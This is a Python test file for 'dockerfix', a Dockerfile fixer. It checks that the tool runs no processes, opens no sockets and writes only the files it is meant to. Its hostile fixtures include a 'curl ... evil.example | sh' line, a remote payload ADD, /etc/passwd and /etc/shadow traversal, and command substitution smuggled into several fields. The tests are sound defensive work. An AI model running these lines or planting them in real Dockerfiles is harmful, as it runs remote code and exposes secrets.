"""dockerfix reads hostile files without executing them, never touches the network, and
writes only the Dockerfiles it was given and the ``.dockerignore`` beside them.

Two layers: in-process, every way to start a process or open a socket is replaced by a
recorder while the fixer and the command line run over the corpus and hostile inputs;
and in a separate interpreter, a ``sys.addaudithook`` hook records every process,
socket and file-system write event of a whole ``dockerfix --write`` run.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import dockerfix
from dockerfix.errors import ParseError

from .clitools import GO, clean_env, cli, write
from .conftest import corpus_files

#: Dockerfile text that would do damage if anything in it were run or fetched.
HOSTILE = """\
# syntax=evil.example/frontend:latest
ARG PWN=`touch /tmp/dockerfix-pwned-arg`
FROM golang:1.23 AS build
ADD https://evil.example/payload.sh /payload.sh
COPY ../../../../etc/passwd /x
RUN $(touch /tmp/dockerfix-pwned-subshell) && curl -fsSL https://evil.example | sh
RUN <<EOF
touch /tmp/dockerfix-pwned-heredoc
EOF
RUN go build -ldflags "-X main.v=$(touch /tmp/dockerfix-pwned-ldflags)" -o /app .
CMD /app; touch /tmp/dockerfix-pwned-cmd
"""
MAIN_GO = """\
package main

//go:generate touch /tmp/dockerfix-pwned-generate
import _ "embed"

//go:embed ../../../../etc/shadow
var secret string

func main() {}
"""
GO_MOD = "module evil.example/x\n\ngo 1.22\n\nreplace evil.example/y => ../../../../etc\n"
PWNED = [
    f"/tmp/dockerfix-pwned-{s}"
    for s in ("arg", "subshell", "heredoc", "ldflags", "cmd", "generate")
]


def hostile_tree(root: Path, outside: Path) -> list[Path]:
    """Folders of hostile Dockerfiles with build contexts; returns the Dockerfiles."""
    dockerfiles = []
    for name, text in (("hostile", HOSTILE), ("plain", GO)):
        folder = root / name
        dockerfiles.append(write(folder / "Dockerfile", text))
        write(folder / "main.go", MAIN_GO)
        write(folder / "go.mod", GO_MOD)
    # a .dockerignore that is a link out of the tree must not be written through
    outside.mkdir(parents=True, exist_ok=True)
    target = outside / "dockerignore-target"
    (root / "plain" / ".dockerignore").symlink_to(target)
    # a Dockerfile-named link out of the tree is not followed in a walk
    write(outside / "Dockerfile", GO)
    (root / "Dockerfile.outside").symlink_to(outside / "Dockerfile")
    for index, path in enumerate(corpus_files("go-real")[:12]):
        target = root / "corpus" / f"c{index:02d}" / "Dockerfile"
        dockerfiles.append(write(target, path.read_bytes()))
    return dockerfiles


class Recorder:
    """Stands in for every process- and network-starting function; records the calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    def __call__(self, name: str) -> Any:
        def record(*args: Any, **kwargs: Any) -> Any:
            self.calls.append(f"{name}{args!r:.200}")
            raise PermissionError(f"dockerfix must not call {name}")

        return record


@pytest.fixture
def forbid(monkeypatch: pytest.MonkeyPatch) -> Recorder:
    """Process creation and sockets raise and are recorded."""
    recorder = Recorder()
    targets: list[tuple[Any, str]] = [
        (subprocess, "Popen"),
        (subprocess, "run"),
        (subprocess, "call"),
        (subprocess, "check_call"),
        (subprocess, "check_output"),
        (os, "system"),
        (os, "popen"),
        (os, "fork"),
        (os, "execv"),
        (os, "execve"),
        (os, "execvp"),
        (os, "execvpe"),
        (os, "spawnv"),
        (os, "spawnve"),
        (os, "posix_spawn"),
        (os, "posix_spawnp"),
        (socket, "socket"),
        (socket, "create_connection"),
        (socket, "getaddrinfo"),
        (socket, "gethostbyname"),
    ]
    for module, name in targets:
        if hasattr(module, name):
            monkeypatch.setattr(module, name, recorder(f"{module.__name__}.{name}"))
    return recorder


def test_fixing_the_corpus_and_hostile_files_runs_nothing(
    tmp_path: Path, forbid: Recorder
) -> None:
    paths = hostile_tree(tmp_path / "tree", tmp_path / "outside")
    jobs: list[tuple[str, str | None]] = [(p.read_text(encoding="utf-8"), str(p)) for p in paths]
    jobs += [(p.read_bytes().decode("utf-8"), None) for p in corpus_files("non-go")]
    for text, where in jobs:
        with contextlib.suppress(ParseError):
            dockerfix.fix(text, where)
    assert forbid.calls == []
    assert not [p for p in PWNED if os.path.exists(p)]


def test_the_command_line_runs_nothing(tmp_path: Path, forbid: Recorder) -> None:
    root = tmp_path / "tree"
    paths = hostile_tree(root, tmp_path / "outside")
    for args in (["--check"], ["--diff"], ["--format", "sarif"], ["--write"]):
        result = cli([*args, "--jobs", "1", str(root)])
        assert result.exit_code in (0, 1), result.stderr
    piped = cli(["-", "--stdin-filename", str(paths[0])], input=HOSTILE)
    dumped = cli(["--dump", str(paths[0])])
    assert (piped.exit_code, dumped.exit_code) == (0, 0)
    assert forbid.calls == []
    assert not [p for p in PWNED if os.path.exists(p)]
    assert (tmp_path / "outside" / "Dockerfile").read_text() == GO
    assert not (tmp_path / "outside" / "dockerignore-target").exists()


AUDIT = r"""
import json, os, sys

WRITE = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
events = []

def hook(event, args):
    if event in ("open",):
        path, mode, flags = args
        writing = isinstance(mode, str) and set(mode) & set("wax+")
        # an int path re-opens a descriptor whose own open was recorded by name
        if not isinstance(path, int) and (isinstance(flags, int) and flags & WRITE or writing):
            events.append(["write", os.fspath(path)])
    elif event in ("os.rename", "os.link", "os.symlink"):
        events.append(["write", os.fspath(args[1])])
        events.append(["write", os.fspath(args[0])])
    elif event in ("os.remove", "os.rmdir", "os.mkdir", "os.chmod", "os.chown", "os.truncate",
                   "os.utime", "tempfile.mkstemp", "tempfile.mkdtemp", "shutil.rmtree"):
        if not isinstance(args[0], int):
            events.append(["write", os.fspath(args[0])])
    elif event.startswith(("subprocess.", "os.exec", "os.posix_spawn", "os.spawn", "os.system",
                           "os.fork", "os.forkpty", "pty.", "socket.", "urllib.", "http.",
                           "ftplib.", "smtplib.", "webbrowser.", "ctypes.dlopen")):
        events.append(["forbidden", event])

sys.addaudithook(hook)
from dockerfix.cli import main
try:
    main(sys.argv[2:], prog_name="dockerfix")
except SystemExit as exc:
    code = exc.code
with open(sys.argv[1] + ".tmp", "x") as out:  # recorded too; excluded by the test
    json.dump({"code": code, "events": events}, out)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX paths")
@pytest.mark.parametrize("mode", ["--write", "--check", "stdin"])
def test_audit_hook_sees_no_process_socket_or_stray_write(tmp_path: Path, mode: str) -> None:
    root = tmp_path / "tree"
    paths = hostile_tree(root, tmp_path / "outside")
    cache = tmp_path / "cache"
    report = tmp_path / "audit.json"
    if mode == "stdin":
        args = ["-", "--stdin-filename", str(paths[0])]
    else:
        args = [mode, "--jobs", "1", str(root)]
    done = subprocess.run(
        [sys.executable, "-c", AUDIT, str(report), *args],
        input=HOSTILE.encode() if mode == "stdin" else b"",
        capture_output=True,
        env=clean_env(DOCKERFIX_CACHE_DIR=str(cache), PYTHONDONTWRITEBYTECODE="1"),
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    os.replace(str(report) + ".tmp", report)
    result = json.loads(report.read_text())
    assert result["code"] in (0, 1)
    forbidden = [e for kind, e in result["events"] if kind == "forbidden"]
    assert forbidden == []
    allowed_folders = {str(p.parent) for p in paths}
    stray, fixed = [], []
    for kind, path in result["events"]:
        if kind != "write" or path == str(report) + ".tmp":
            continue
        real = os.path.realpath(path)
        if real == str(cache.resolve()) or real.startswith(str(cache.resolve()) + os.sep):
            continue  # the grammar cache (DOCKERFIX_CACHE_DIR), first run only
        folder, name = os.path.split(path)
        temporary = name.startswith((".Dockerfile.", ".dockerignore."))
        if folder in allowed_folders and (
            name in ("Dockerfile", ".dockerignore")
            or (temporary and name.endswith(".dockerfix.tmp"))
        ):
            fixed.append(path)
        else:
            stray.append(path)
    assert stray == []
    if mode == "--write":
        assert str(paths[0]) in fixed  # the hook does see the writes that should happen
    else:
        assert fixed == []
    assert not [p for p in PWNED if os.path.exists(p)]
    assert (tmp_path / "outside" / "Dockerfile").read_text() == GO
